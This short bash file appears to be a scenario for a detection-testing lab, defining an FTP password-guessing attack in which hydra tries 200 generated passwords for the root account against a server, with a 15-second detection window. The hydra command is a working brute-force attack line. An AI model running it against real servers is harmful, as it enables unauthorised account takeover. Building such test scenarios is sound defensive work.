# shellcheck shell=bash
# about: 200 passwords for ftp (hydra)
# type: attack
# kind: password_guessing
# target: server
# source: attacker
# tools: hydra vsftpd
# within_ms: 15000
play() {
	passwords 200 >"$WORK/list"
	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ftp://$SERVER_IP"
}
